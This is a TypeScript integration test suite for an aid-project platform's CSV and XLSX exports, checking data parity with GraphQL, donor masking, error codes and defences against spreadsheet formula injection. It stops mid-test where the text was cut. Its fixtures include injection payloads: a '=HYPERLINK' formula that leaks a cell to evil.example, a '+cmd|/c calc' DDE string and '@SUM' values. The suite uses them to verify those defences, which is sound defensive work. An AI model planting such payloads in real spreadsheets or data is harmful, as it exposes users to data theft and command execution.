/**
 * The CSV and XLSX downloads: the project list as filtered, a project's and a programme's finances, the logframe's
 * results and the portfolio tables. Each holds the rows and figures GraphQL gives the same caller for the same
 * filter, under the documented headers (README, "Exports"); text a spreadsheet would run comes out inert in both
 * formats while numbers stay numbers; bad ids are 404 and bad filters 400, coded.
 *
 *   G1 (lead L)                                               G2 (lead L)
 *     J1 "=HYPERLINK…", NG, TIP_SOM, status 2, NGO implements    J3 "Prison clinics", KE, HIV_PRISONS
 *        budgets 1,000.10 USD (2024), 2,000 EUR (2025)
 *        D1 ("@SUM(A1) Foundation") 5,000 USD, D2 3,000 EUR, both earmarked to J1
 *        received 4,000 from D1 and 1,000 from D2; spent 400.25, reversed −100.25
 *        logframe: "Officers trained" 12 of 10, "Victims identified" (sensitive) 3, a draft of 99 not approved
 *     J2 "Border project", GH 50 % / NG 50 %, CORRUPTION, status 3
 */
import fs from 'node:fs';
import path from 'node:path';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { useApi, Role, type Client } from '../support/api.js';
import { addIndicator, addNode, makeOrganisation, makeProgramme, makeProject } from '../support/factories.js';
import { approveReported } from '../support/reporting.js';
import { parseCsv } from '../../server/src/modules/finance/spreadsheet.js';
import { headersOf, type Table } from '../../server/src/modules/common/table-export.js';
import { PROJECT_LIST } from '../../server/src/modules/project/project.export.js';
import { BUDGETS, CONTRIBUTIONS, DONORS, TRANSACTIONS } from '../../server/src/modules/finance/finance.export.js';
import { LOGFRAME_MATRIX, LOGFRAME_VALUES, logframeIndicators } from '../../server/src/modules/logframe/logframe.export.js';
import { PORTFOLIO_PROJECTS, PORTFOLIO_RESULTS, PORTFOLIO_SUMMARY } from '../../server/src/modules/portfolio/portfolio.export.js';
import { DONOR_FUNDING } from '../../server/src/modules/finance/donor.export.js';

const api = useApi();
const org: Record<string, string> = {};
const ids: Record<string, string> = {};
let periods: { id: string; label: string; startDate: string; endDate: string }[] = [];

const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
const FORMULA_START = /^[=+\-@\t\r]/;

/** Every table of every export, the indicator sheet with one period standing for all. */
const TABLES: Table<any>[] = [
  PROJECT_LIST, BUDGETS, CONTRIBUTIONS, TRANSACTIONS, DONORS, LOGFRAME_MATRIX,
  logframeIndicators([{ id: 'p', label: '<period>', startDate: '', endDate: '' }]), LOGFRAME_VALUES,
  PORTFOLIO_SUMMARY, PORTFOLIO_PROJECTS, PORTFOLIO_RESULTS, DONOR_FUNDING,
];

beforeAll(async () => {
  org.lead = (await makeOrganisation(api, { name: 'Lead agency', kind: 'UN_ENTITY' })).id;
  org.ngo = (await makeOrganisation(api, { name: 'Partner NGO', kind: 'NGO' })).id;
  org.d1 = (await makeOrganisation(api, { name: '@SUM(A1) Foundation', kind: 'DONOR' })).id;
  org.d2 = (await makeOrganisation(api, { name: 'Second donor', kind: 'DONOR' })).id;
  await api.ok(`mutation($i: ExchangeRateInput!) { setExchangeRate(input: $i) { id } }`, { i: { currency: 'EUR', rateDate: '2024-01-01', rate: '1.10', source: 'test' } });
  ids.g1 = (await makeProgramme(api, { title: 'Trafficking programme', leadAgencyId: org.lead })).id;
  ids.g2 = (await makeProgramme(api, { title: 'Prison health programme', leadAgencyId: org.lead, focusAreas: ['HIV_PRISONS'] })).id;
  const dates = { plannedStart: '2024-01-01', plannedEnd: '2025-12-31' };
  ids.j1 = (await makeProject(api, ids.g1, { ...dates, title: HYPERLINK, description: '+cmd|/c calc', status: '2', focusAreas: ['TIP_SOM'], recipientCountries: [{ country: 'NG', percentage: 100 }] })).id;
  ids.j2 = (await makeProject(api, ids.g1, { ...dates, title: 'Border project', description: '-2+3', status: '3', focusAreas: ['CORRUPTION'], recipientCountries: [{ country: 'GH', percentage: 50 }, { country: 'NG', percentage: 50 }] })).id;
  ids.j3 = (await makeProject(api, ids.g2, { ...dates, title: 'Prison clinics', description: '@SUM(1,2)', focusAreas: ['HIV_PRISONS'], recipientCountries: [{ country: 'KE', percentage: 100 }] })).id;
  await api.ok(`mutation($i: ParticipationInput!) { addParticipation(input: $i) { id } }`, { i: { organisationId: org.ngo, projectId: ids.j1, role: '4' } });

  const ok = (mutation: string, type: string, i: Record<string, unknown>) => api.ok(`mutation($i: ${type}!) { ${mutation}(input: $i) { id } }`, { i });
  await ok('createBudget', 'BudgetInput', { projectId: ids.j1, periodStart: '2024-01-01', periodEnd: '2024-12-31', amount: '1000.10', currency: 'USD', valueDate: '2024-01-01' });
  await ok('createBudget', 'BudgetInput', { projectId: ids.j1, periodStart: '2025-01-01', periodEnd: '2025-12-31', amount: '2000', currency: 'EUR', valueDate: '2025-01-01', organisationId: org.ngo });
  const contribution = { projectId: ids.j1, periodStart: '2024-01-01', periodEnd: '2025-12-31', earmarking: 'TIGHT', status: 'SIGNED' };
  await ok('createContribution', 'ContributionInput', { ...contribution, donorId: org.d1, amount: '5000', currency: 'USD', signedDate: '2024-02-01', description: '=1+1' });
  await ok('createContribution', 'ContributionInput', { ...contribution, donorId: org.d2, amount: '3000', currency: 'EUR', signedDate: '2024-02-02' });
  await ok('createTransaction', 'TransactionInput', { projectId: ids.j1, type: '1', transactionDate: '2024-03-01', amount: '4000', currency: 'USD', providerId: org.d1, receiverId: org.lead });
  await ok('createTransaction', 'TransactionInput', { projectId: ids.j1, type: '1', transactionDate: '2024-03-02', amount: '1000', currency: 'USD', providerId: org.d2, receiverId: org.lead });
  const spent = await ok('createTransaction', 'TransactionInput', { projectId: ids.j1, type: '4', transactionDate: '2024-06-01', amount: '400.25', currency: 'USD', providerId: org.lead, description: '-2+3' });
  await ok('createTransaction', 'TransactionInput', { projectId: ids.j1, type: '4', transactionDate: '2024-07-01', amount: '-100.25', currency: 'USD', providerId: org.lead, reversesId: spent.createTransaction.id, description: '@correction' });

  periods = (await api.ok(`mutation($p: ID!) { setReportingCalendar(projectId: $p, frequency: QUARTERLY) { id label startDate endDate } }`, { p: ids.j1 })).setReportingCalendar;
  const outcome = await addNode(api, ids.j1, { level: 'OUTCOME', statement: '+Victims are identified', responsibleOrganisationId: org.ngo });
  const trained = await addIndicator(api, outcome.id, { title: 'Officers trained' });
  const victims = await addIndicator(api, outcome.id, { title: 'Victims identified', sensitive: true });
  const values = (v: Record<string, unknown>[]) => api.ok(`mutation($p: ID!, $v: [IndicatorValueInput!]!) { setIndicatorValues(projectId: $p, values: $v) { id } }`, { p: ids.j1, v });
  await values([
    { indicatorId: trained.id, periodId: periods[0].id, target: 10, actual: 12, comment: '@mention the team' },
    { indicatorId: trained.id, periodId: periods[1].id, target: 10 },
    { indicatorId: victims.id, periodId: periods[0].id, target: 5, actual: 3 },
  ]);
  await approveReported(api, ids.j1);
  // A correction under way: it counts nowhere until it is approved.
  await values([{ indicatorId: trained.id, periodId: periods[1].id, actual: 99 }]);
  ids.trained = trained.id;
}, 120_000);

const get = (pathAndQuery: string, headers: Record<string, string>) => fetch(`${api.url}${pathAndQuery}`, { headers });

/** A CSV download: checks the type, the byte-order mark and the file name, and returns the header and the rows. */
async function csvOf(res: Response) {
  expect(res.status, await res.clone().text().then((t) => t.slice(0, 300))).toBe(200);
  expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
  expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="[A-Za-z0-9._-]+\.csv"$/);
  const bytes = Buffer.from(await res.arrayBuffer());
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const [header, ...rows] = parseCsv(bytes.subarray(3).toString('utf8'));
  return { header, rows: rows.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]]))) };
}

async function bookOf(res: Response) {
  expect(res.status).toBe(200);
  expect(res.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
  expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="[A-Za-z0-9._-]+\.xlsx"$/);
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(Buffer.from(await res.arrayBuffer()) as unknown as ArrayBuffer);
  // No cell is a formula, and no text cell starts like one.
  book.eachSheet((sheet) =>
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof cell.value === 'string') expect(cell.value).not.toMatch(FORMULA_START);
      }),
    ),
  );
  return book;
}

/** A sheet's header and rows keyed by header, cells as exceljs reads them back. */
function sheetRows(book: ExcelJS.Workbook, name: string) {
  const sheet = book.getWorksheet(name)!;
  const header = (sheet.getRow(1).values as unknown[]).slice(1) as string[];
  const rows: Record<string, unknown>[] = [];
  sheet.eachRow((row, n) => {
    if (n > 1) rows.push(Object.fromEntries(header.map((h, i) => [h, row.getCell(i + 1).value ?? null])));
  });
  return { header, rows };
}

/** What a spreadsheet cell must hold for a text: the text, with an apostrophe in front when it starts like a formula. */
const inert = (s: string | null | undefined) => (s == null ? '' : FORMULA_START.test(s) ? `'${s}` : s);
const day = (iso: string | null) => (iso ? new Date(`${iso.slice(0, 10)}T00:00:00Z`) : null);

const PROJECTS = `query($f: ProjectFilter) { projects(filter: $f, first: 20) { totalCount items { id iatiIdentifier title description status statusName plannedStart plannedEnd
  actualStart actualEnd archivedAt programme { id title } recipientCountries { country { code } percentage } focusAreas { code } } } }`;

/** The project list row that GraphQL's answer implies, worked out here from its fields, as CSV text. */
function expectedProject(p: any): Record<string, string> {
  return {
    'Project ID': p.id,
    'IATI identifier': p.iatiIdentifier,
    Title: inert(p.title),
    'Programme ID': p.programme.id,
    Programme: inert(p.programme.title),
    'Status code': p.status,
    Status: inert(p.statusName),
    'Planned start': p.plannedStart,
    'Planned end': p.plannedEnd,
    'Actual start': p.actualStart ?? '',
    'Actual end': p.actualEnd ?? '',
    'Recipient countries': [...p.recipientCountries].sort((a: any, b: any) => a.country.code.localeCompare(b.country.code)).map((c: any) => `${c.country.code} ${c.percentage}%`).join('; '),
    'Focus areas': p.focusAreas.map((f: any) => f.code).sort().join('; '),
    Description: inert(p.description),
    Archived: p.archivedAt ? p.archivedAt.slice(0, 10) : '',
  };
}

async function expectProjectList(client: Client & { cookie: string }, filter: Record<string, unknown>) {
  const query = new URLSearchParams(Object.entries(filter).map(([k, v]) => [k, String(v)])).toString();
  const { projects } = await client.ok(PROJECTS, { f: filter });
  const expected = projects.items.map(expectedProject).sort((a: any, b: any) => a['Project ID'].localeCompare(b['Project ID']));
  const csv = await csvOf(await get(`/exports/projects.csv?${query}`, { cookie: client.cookie }));
  expect(csv.header).toEqual(headersOf(PROJECT_LIST, 'USD'));
  expect([...csv.rows].sort((a, b) => a['Project ID'].localeCompare(b['Project ID']))).toEqual(expected);
  expect(csv.rows).toHaveLength(projects.totalCount);
  // In the list's order: by title, then id.
  const order = [...projects.items].sort((a: any, b: any) => (a.title < b.title ? -1 : a.title > b.title ? 1 : a.id.localeCompare(b.id))).map((p: any) => p.id);
  expect(csv.rows.map((r) => r['Project ID'])).toEqual(order);

  const xlsx = sheetRows(await bookOf(await get(`/exports/projects.xlsx?${query}`, { cookie: client.cookie })), 'Projects');
  expect(xlsx.header).toEqual(csv.header);
  expect(xlsx.rows.map((r) => r['Project ID'])).toEqual(order);
  for (const r of xlsx.rows) {
    const p = projects.items.find((x: any) => x.id === r['Project ID']);
    expect({ ...r, Description: r.Description ?? '' }).toMatchObject({ Title: inert(p.title), Description: inert(p.description), 'Planned start': day(p.plannedStart), 'Actual start': day(p.actualStart) });
  }
  return csv.rows.map((r) => r['Project ID']);
}

describe('export columns', () => {
  it('are the ones the README documents, table by table', () => {
    const readme = fs.readFileSync(path.join(import.meta.dirname, '../../README.md'), 'utf8');
    const section = readme.slice(readme.indexOf('### Exports'), readme.indexOf('\n## ', readme.indexOf('### Exports')));
    const documented = new Map<string, string[]>();
    for (const m of section.matchAll(/Table `([^`]+)`[^|]*?\n\n\| Column \| Meaning \|\n\|[- |]+\|\n((?:\|.*\|\n)+)/g)) {
      documented.set(m[1], m[2].trim().split('\n').map((line) => line.split('|')[1].trim().replace(/^`|`$/g, '')));
    }
    expect([...documented.keys()].sort()).toEqual(TABLES.map((t) => t.id).sort());
    for (const t of TABLES) expect(documented.get(t.id), t.id).toEqual(t.columns.map((c) => c.header));
    for (const t of TABLES) expect(new Set(t.columns.map((c) => c.id)).size, t.id).toBe(t.columns.length);
  });
});

describe('project list export', () => {
  it('lists what projects(filter:) lists for the same caller and filter, in CSV and XLSX', async () => {
    const admin = await api.signedIn([{ role: Role.ADMIN }]);
    const all = await expectProjectList(admin, { programmeId: ids.g1 });
    expect(all.sort()).toEqual([ids.j1, ids.j2].sort());
    expect(await expectProjectList(admin, { programmeId: ids.g1, country: 'GH' })).toEqual([ids.j2]);
    expect(await expectProjectList(admin, { focusArea: 'HIV_PRISONS', programmeId: ids.g2 })).toEqual([ids.j3]);
    expect(await expectProjectList(admin, { programmeId: ids.g1, status: '2' })).toEqual([ids.j1]);
    expect(await expectProjectList(admin, { organisationId: org.ngo })).toEqual([ids.j1]);
    expect(await expectProjectList(admin, { search: 'border', includeArchived: true })).toEqual([ids.j2]);
  });

  it('gives a donor only the projects it funds, as GraphQL does', async () => {
    const donor = await api.signedIn([{ role: Role.DONOR, organisationId: org.d1 }]);
    expect(await expectProjectList(donor, {})).toEqual([ids.j1]);
  });

  it('refuses malformed filters with BAD_USER_INPUT naming each parameter', async () => {
    const admin = await api.signedIn([{ role: Role.ADMIN }]);
    for (const [query, field] of [
      ['programmeId=nope', 'programmeId'],
      ['organisationId=1', 'organisationId'],
      [`country=${'A'.repeat(51)}`, 'country'],
      [`search=${'x'.repeat(201)}`, 'search'],
      ['includeArchived=yes', 'includeArchived'],
      ['status=2&status=3', 'status'],
      ['programme=G1', 'programme'],
      ['focusArea=TIP%00', 'focusArea'],
    ]) {
      for (const format of ['csv', 'xlsx']) {
        const res = await get(`/exports/projects.${format}?${query}`, { cookie: admin.cookie });
        expect(res.status, query).toBe(400);
        const body = await res.json();
        expect(body.errors[0].extensions).toMatchObject({ code: 'BAD_USER_INPUT', field });
        expect(JSON.stringify(body)).not.toMatch(/at .*\.ts|select /i);
      }
    }
    expect((await get('/exports/projects.pdf', { cookie: admin.cookie })).status).toBe(404);
    const anonymous = await get('/exports/projects.csv', {});
    expect(anonymous.status).toBe(401);
    expect((await anonymous.json()).errors[0].extensions.code).toBe('UNAUTHENTICATED');
  });

  it('never yields a cell a spreadsheet would evaluate, whatever a title or description holds (property)', async () => {
    const admin = await api.signedIn([{ role: Role.ADMIN }]);
    const start = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\r\n', ' =', '"', "'", '', '1', 'a');
    // Text PostgreSQL stores: no NUL, no lone surrogate.
    const body = fc.string({ maxLength: 30, unit: 'grapheme' }).map((s) => s.replace(/\0/g, ''));
    const text = fc.tuple(start, body).map(([a, b]) => a + b);
    let version = (await api.ok(`query($id: ID!) { project(id: $id) { version } }`, { id: ids.j3 })).project.version as number;
    await fc.assert(
      fc.asyncProperty(text, text, async (title, description) => {
        const saved = await api.gql(`mutation($id: ID!, $p: ProjectPatch!) { updateProject(id: $id, input: $p) { title description version } }`, { id: ids.j3, p: { title: `${title}x`, description } });
        // A title the API refuses (blank after trimming, say) is not exported: nothing to check.
        if (saved.errors) return;
        version = saved.data.updateProject.version;
        const { title: stored, description: storedDescription } = saved.data.updateProject;
        const csv = await csvOf(await get(`/exports/projects.csv?programmeId=${ids.g2}`, { cookie: admin.cookie }));
        const row = csv.rows.find((r) => r['Project ID'] === ids.j3)!;
        expect([row.Title, row.Description]).toEqual([inert(stored), inert(storedDescription)]);
        for (const r of csv.rows) for (const cell of Object.values(r)) expect(cell).not.toMatch(FORMULA_START);
        const xlsx = sheetRows(await bookOf(await get(`/exports/projects.xlsx?programmeId=${ids.g2}`, { cookie: admin.cookie })), 'Projects');
        const cells = xlsx.rows.find((r) => r['Project ID'] === ids.j3)!;
        // XML reads a carriage return back as a line feed; what matters is that the apostrophe stays in front.
        const xml = (t: string) => t.replace(/\r\n?/g, '\n');
        expect([cells.Title, cells.Description ?? ''].map((c) => xml(String(c)))).toEqual([inert(stored), inert(storedDescription)].map(xml));
      }),
      { numRuns: 25 },
    );
    expect(version).toBeGreaterThan(1);
  });
});

const FINANCE = `query($id: ID!, $f: TransactionFilter) { project(id: $id) {
  budgets { id type status periodStart periodEnd amount { amount currency } converted { amount } valueDate output { statement } organisation { name } }
  contributions { id donor { name } project { title } amount { amount currency } converted { amount } signedDate periodStart periodEnd earmarking status description paid }
  transactions(filter: $f) { id type typeName transactionDate valueDate amount { amount currency } converted { amount } provider { name } receiver { name } receiverProject { title } output { statement } description reversesId }
  finance { byDonor { key label figures { contributions { amount } pledged { amount } incomingCommitments { amount } received { amount } } } } } }`;

/** Money in CSV: the exact decimal, or "rate missing". */
const money = (amount: string | null) => amount ?? 'rate missing';

function expectedFinance(p: any) {
  return {
    budgets: p.budgets.map((b: any) => ({
      'Budget ID': b.id, Type: b.type, Status: b.status, 'Period start': b.periodStart, 'Period end': b.periodEnd, Amount: b.amount.amount, Currency: b.amount.currency,
      'Amount (USD)': money(b.converted.amount), 'Value date': b.valueDate, Output: inert(b.output?.statement), Organisation: inert(b.organisation?.name),
    })),
    contributions: p.contributions.map((c: any) => ({
      'Contribution ID': c.id, Donor: inert(c.donor.name), Project: inert(c.project?.title ?? 'Pooled fund'), Amount: c.amount.amount, Currency: c.amount.currency,
      'Amount (USD)': money(c.converted.amount), Signed: c.signedDate ?? '', 'Period start': c.periodStart, 'Period end': c.periodEnd, Earmarking: c.earmarking, Status: c.status,
      Paid: c.paid, Description: inert(c.description),
    })),
    transactions: p.transactions.map((t: any) => ({
      'Transaction ID': t.id, 'Type code': t.type, Type: inert(t.typeName), Date: t.transactionDate, 'Value date': t.valueDate, Amount: t.amount.amount, Currency: t.amount.currency,
      'Amount (USD)': money(t.converted.amount), Provider: inert(t.provider?.name), Receiver: inert(t.receiver?.name), 'For project': inert(t.receiverProject?.title),
      Output: inert(t.output?.statement), Description: inert(t.description), Reverses: t.reversesId ?? '',
    })),
    donors: p.finance.byDonor.map((d: any) => ({
      'Donor key': d.key, Donor: inert(d.label), 'Contributions (USD)': money(d.figures.contributions.amount), 'Pledged (USD)': money(d.figures.pledged.amount),
      'Incoming commitments (USD)': money(d.figures.incomingCommitments.amount), 'Received (USD)': money(d.figures.received.amount),
    })),
  };
}

const FINANCE_TABLES = { budgets: BUDGETS, contributions: CONTRIBUTIONS, transactions: TRANSACTIONS, donors: DONORS } as const;

/** Every table, in CSV and XLSX, equals the finance page's GraphQL reads for this caller and transaction filter. */
async function expectFinance(client: Client & { cookie: string }, filter: Record<string, string> = {}) {
  const { project } = await client.ok(FINANCE, { id: ids.j1, f: filter });
  const expected = expectedFinance(project);
  const query = new URLSearchParams(filter).toString();
  const book = await bookOf(await get(`/exports/projects/${ids.j1}/finance.xlsx${query ? `?${query}` : ''}`, { cookie: client.cookie }));
  expect(book.worksheets.map((w) => w.name)).toEqual(['Transactions', 'Budgets', 'Contributions', 'Donors', 'About']);
  for (const [name, table] of Object.entries(FINANCE_TABLES) as [keyof typeof FINANCE_TABLES, Table<any>][]) {
    const csv = await csvOf(await get(`/exports/projects/${ids.j1}/finance.csv?table=${name}${query ? `&${query}` : ''}`, { cookie: client.cookie }));
    expect(csv.header).toEqual(headersOf(table, 'USD'));
    expect(csv.rows, name).toEqual(expected[name]);
    const sheet = sheetRows(book, table.sheet);
    expect(sheet.header).toEqual(csv.header);
    expect(sheet.rows).toHaveLength(csv.rows.length);
  }
  return { project, book, expected };
}

describe('finance export', () => {
  it("equals the finance page's reads for a manager, with amounts as numbers (a reversal too) and text inert", async () => {
    const admin = await api.signedIn([{ role: Role.ADMIN }]);
    const { book, expected } = await expectFinance(admin);
    expect(expected.budgets.map((b: any) => b['Amount (USD)'])).toEqual(['1000.10', '2200.00']);
    expect(expected.transactions).toHaveLength(4);
    expect(expected.contributions.map((c: any) => c.Donor).sort()).toEqual(["'@SUM(A1) Foundation", 'Second donor']);
    const tx = sheetRows(book, 'Transactions').rows;
    const reversal = tx.find((r) => r.Amount === -100.25)!;
    expect(reversal).toMatchObject({ 'Amount (USD)': -100.25, Description: "'@correction", Date: new Date('2024-07-01T00:00:00Z') });
    expect(tx.find((r) => r.Amount === 400.25)).toMatchObject({ Description: "'-2+3" });
    expect(book.getWorksheet('Transactions')!.getRow(2).getCell(6).numFmt).toBe('#,##0.00');
    // In CSV the reversal is a plain negative number, not text.
    const csv = await csvOf(await get(`/exports/projects/${ids.j1}/finance.csv?table=transactions`, { cookie: admin.cookie }));
    expect(csv.rows.map((r) => r.Amount).sort()).toEqual(['-100.25', '1000.00', '400.25', '4000.00']);
    const budgets = sheetRows(book, 'Budgets').rows;
    expect(budgets.map((b) => b['Amount (USD)'])).toEqual([1000.1, 2200]);
  });

  it('applies the transaction filter of the finance page', async () => {
    const admin = await api.signedIn([{ role: Role.ADMIN }]);
    const spent = await expectFinance(admin, { type: '4' });
    expect(spent.expected.transactions).toHaveLength(2);
    const from = await expectFinance(admin, { from: '2024-03-02', to: '2024-06-30', organisationId: org.lead });
    expect(from.expected.transactions.map((t: any) => t.Date)).toEqual(['2024-06-01', '2024-03-02']);
  });

  it('shows a donor its own contributions one by one and the others only as "Other donors"', async () => {
    const donor = await api.signedIn([{ role: Role.DONOR, organisationId: org.d1 }]);
    const { expected, book } = await expectFinance(donor);
    expect(expected.contributions.map((c: any) => c.Donor)).toEqual(["'@SUM(A1) Foundation"]);
    expect(expected.transactions.filter((t: any) => t['Type code'] === '1').map((t: any) => t.Amount)).toEqual(['4000.00']);
    expect(expected.donors.filter((d: any) => d['Donor key'] !== 'NONE').map((d: any) => [d.Donor, d['Contributions (USD)'], d['Received (USD)']])).toEqual([
      ["'@SUM(A1) Foundation", '5000.00', '4000.00'],
      ['Other donors', '3300.00', '1000.00'],
    ]);
    const text = JSON.stringify(sheetRows(book, 'Contributions').rows) + JSON.stringify(sheetRows(book, 'Transactions').rows);
    expect(text).not.toContain('Second donor');
  });

  it("gives a programme's fund and projects as its GraphQL reads do", async () => {
    const admin = await api.signedIn([{ role: Role.ADMIN }]);
    const { programme } = await admin.ok(`query($id: ID!) { programme(id: $id) { contributions { id } transactions { id } finance { byDonor { key } } } }`, { id: ids.g1 });
    const book = await bookOf(await get(`/exports/programmes/${ids.g1}/finance.xlsx`, { cookie: admin.cookie }));
    expect(book.worksheets.map((w) => w.name)).toEqual(['Transactions', 'Contributions', 'Donors', 'About']);
    expect(sheetRows(book, 'Contributions').rows.map((r) => r['Contribution ID'])).toEqual(programme.contributions.map((c: any) => c.id));
    expect(sheetRows(book, 'Transactions').rows.map((r) => r['Transaction ID'])).toEqual(programme.transactions.map((t: any) => t.id));
    expect(sheetRows(book, 'Donors').rows.map((r) => r['Donor key'])).toEqual(programme.finance.byDonor.map((d: any) => d.key));
    const csv = await csvOf(await get(`/exports/programmes/${ids.g1}/finance.csv?table=contributions`, { cookie: admin.cookie }));
    expect(csv.rows.map((r) => r['Contribution ID'])).toEqual(programme.contributions.map((c: any) => c.id));
    const budgets = await get(`/exports/programmes/${ids.g1}/finance.csv?table=budgets`, { cookie: admin.cookie });
    expect(budgets.status).toBe(400);
    expect((await budgets.json()).errors[0].extensions.field).toBe('table');
  });

  it('answers 404 for unknown or unreadable ids and 400 for malformed filters, coded', async () => {
    const admin = await api.signedIn([{ role: Role.ADMIN }]);
    const stranger = await api.signedIn([{ role: Role.DONOR, organisationId: org.d2 }]);
    for (const [url, cookie] of [
      [`/exports/projects/00000000-0000-4000-8000-000000000000/finance.xlsx`, admin.cookie],
      [`/exports/projects/not-an-id/finance.csv`, admin.cookie],
      [`/exports/programmes/00000000-0000-4000-8000-000000000000/finance.xlsx`, admin.cookie],
      [`/exports/projects/${ids.j1}/finance.pdf`, admin.cookie],
      [`/exports/projects/${ids.j3}/finance.csv`, stranger.cookie],
      [`/exports/projects/${ids.j3}/logframe.csv`, stranger.cookie],
      [`/exports/projects/00000000-0000-4000-8000-000000000000/logframe.xlsx`, admin.cookie],
    ]) {
      const res = await get(url, { cookie });
      expect(res.status, url).toBe(404);
      expect((await res.json()).errors[0].extensions.code).toBe('NOT_FOUND');
    }
    for (const [query, field] of [
      ['table=nope', 'table'],
      ['from=2024-02-30', 'from'],
      ['to=yesterday', 'to'],
      ['organisationId=x', 'organisationId'],
      ['type=' + '1'.repeat(51), 'type'],
      ['page=2', 'page'],
    ]) {
      const res = await get(`/exports/projects/${ids.j1}/finance.csv?${query}`, { cookie: admin.cookie });
      expect(res.status, query).toBe(400);
      expect((await res.json()).errors[0].extensions).toMatchObject({ code: 'BAD_USER_INPUT', field });
    }
    // A workbook holds every table: choosing one is a CSV matter.
    expect((await get(`/exports/projects/${ids.j1}/finance.xlsx?table=budgets`, { cookie: admin.cookie })).status).toBe(400);
  });
});

const LOGFRAME = `query($p: ID!) { logframe(projectId: $p) { nodes { code level statement indicators { title values {
  period { label startDate endDate } dimension category target targetText actual actualDisplay actualText approvedActual approvedActualText pending comment }
  progress { cumulativeActual cumulativeActualDisplay } } } } }`;

describe('results export', () => {
  it('gives per indicator and period the targets and the approved actuals GraphQL gives, masked for a donor', async () => {
    const donor = await api.signedIn([{ role: Role.DONOR, organisationId: org.d1 }]);
    const admin = await api.signedIn([{ role: Role.ADMIN }]);
    for (const [client, approvedOnly] of [[donor, false], [admin, true]] as const) {
      const { logframe } = await client.ok(LOGFRAME, { p: ids.j1 });
      // For those who act on reports GraphQL shows the figure as entered; what counts (and is exported) is the approved copy.
      const actualOf = (v: any) => (approvedOnly ? (v.approvedActual ?? v.approvedActualText) : (v.actualDisplay ?? v.actualText));
      const expected = logframe.nodes.flatMap((n: any) =>
        n.indicators.flatMap((i: any) =>
          i.values.map((v: any) => ({
            code: n.code, level: n.level.toLowerCase(), result: inert(n.statement), indicator: inert(i.title), period: v.period.label, period_start: v.period.startDate,
            period_end: v.period.endDate, dimension: v.dimension, category: v.category, target: String(v.target ?? v.targetText ?? ''), actual: String(actualOf(v) ?? ''), comment: inert(v.comment),
          })),
        ),
      );
      const csv = await csvOf(await get(`/exports/projects/${ids.j1}/logframe.csv`, { cookie: client.cookie }));
      expect(csv.header).toEqual(headersOf(LOGFRAME_VALUES, 'USD'));
      expect(csv.rows).toEqual(expected);
      const book = await bookOf(await get(`/exports/projects/${ids.j1}/logframe.xlsx`, { cookie: client.cookie }));
      expect(book.worksheets.map((w) => w.name)).toEqual(['Logframe', 'Indicators', 'Values']);
      const values = sheetRows(book, 'Values');
      expect(values.header).toEqual(csv.header);
      expect(values.rows.map((r) => String(r.actual ?? ''))).toEqual(expected.map((r: any) => r.actual));
      const victims = expected.find((r: any) => r.indicator === 'Victims identified' && r.period === periods[0].label);
      expect(victims.actual).toBe(approvedOnly ? '3' : '<5');
      const trained = values.rows.filter((r) => r.indicator === 'Officers trained');
      expect(trained.map((r) => [r.target, r.actual])).toEqual([[10, 12], [10, null]]);
      expect(trained[0].comment).toBe("'@mention the team");
      const indicators = await csvOf(await get(`/exports/projects/${ids.j1}/logframe.csv?table=indicators`, { cookie: client.cookie }));
      expect(indicators.header).toEqual(headersOf(logframeIndicators(periods), 'USD'));
      expect(indicators.header).toEqual(sheetRows(book, 'Indicators').header);
      const row = indicators.rows.find((r) => r.Indicator === 'Victims identified')!;
      expect(row[`${periods[0].label} actual`]).toBe(approvedOnly ? '3' : '<5');
      const shown = logframe.nodes.flatMap((n: any) => n.indicators).find((i: any) => i.title === 'Victims identified').progress;
      expect(row['Cumulative actual']).toBe(String(shown.cumulativeActual ?? shown.cumulativeActualDisplay));
      expect(row['Cumulative actual']).not.toBe(approvedOnly ? '' : '3');
    }
  });

  it('gives the portfolio results as CSV with the columns and counts of the workbook', async () => {
    const donor = await api.signedIn([{ role: Role.DONOR, organisationId: org.d1 }]);
    const book = await bookOf(await get(`/exports/portfolio.xlsx?country=NG`, { cookie: donor.cookie }));
    for (const [table, sheet] of [['results', PORTFOLIO_RESULTS], ['projects', PORTFOLIO_PROJECTS], ['summary', PORTFOLIO_SUMMARY]] as const) {
      const csv = await csvOf(await get(`/exports/portfolio.csv?country=NG&table=${table}`, { cookie: donor.cookie }));
      const xlsx = sheetRows(book, sheet.sheet);
      expect(csv.header).toEqual(headersOf(sheet as Table<any>, 'USD'));
      expect(xlsx.header).toEqual(csv.header);
      // The same cells: numbers equal as numbers, dates as ISO dates, text inert in both.
      expect(csv.rows).toHaveLength(xlsx.rows.length);
      xlsx.rows.forEach((r, n) => {
        for (const [k, v] of Object.entries(r)) {
          const c = csv.rows[n][k];
          if (typeof v === 'number') expect(Number(c), `${table} ${k}`).toBe(v);
          else expect(c, `${table} ${k}`).toBe(v instanceof Date ? v.toISOString().slice(0, 10) : (v ?? ''));
        }
      });
    }
    const results = (await csvOf(await get(`/exports/portfolio.csv?table=results`, { cookie: donor.cookie }))).rows;
    expect(results.map((r) => r['Project ID'])).toEqual([ids.j1]);
    const { portfolioSummary } = await donor.ok(`{ portfolioSummary { totals { indicators { onTrack atRisk offTrack noData total } } } }`);
    const i = portfolioSummary.totals.indicators;
    expect(results.map((r) => [r['On track'], r['At risk'], r['Off track'], r['No data'], r.Indicators].map(Number))).toEqual([[i.onTrack, i.atRisk, i.offTrack, i.noData, i.total]]);
    expect((await get(`/exports/portfolio.csv?table=nope`, { cookie: donor.cookie })).status).toBe(400);
  });
});

describe('formula injection', () => {
  it('comes out inert in every export, CSV and XLSX, and no file holds a formula', async () => {
    const admin = await api.signedIn([{ role: Role.ADMIN }]);
    const csvs = [
      `/exports/projects.csv`,
      `/exports/projects/${ids.j1}/finance.csv?table=transactions`,
      `/exports/projects/${ids.j1}/finance.csv?table=contributions`,
